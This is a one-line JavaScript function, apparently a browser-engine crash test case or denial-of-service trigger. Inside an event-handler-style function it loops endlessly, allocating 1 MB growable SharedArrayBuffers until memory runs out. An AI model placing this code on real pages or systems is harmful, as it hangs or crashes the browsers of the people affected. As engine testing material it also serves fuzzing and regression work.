function onTrack() { const kept = []; while (true) kept.push(new (new SharedArrayBuffer(1).constructor)(1 << 20, { maxByteLength: 1 << 20 })); }
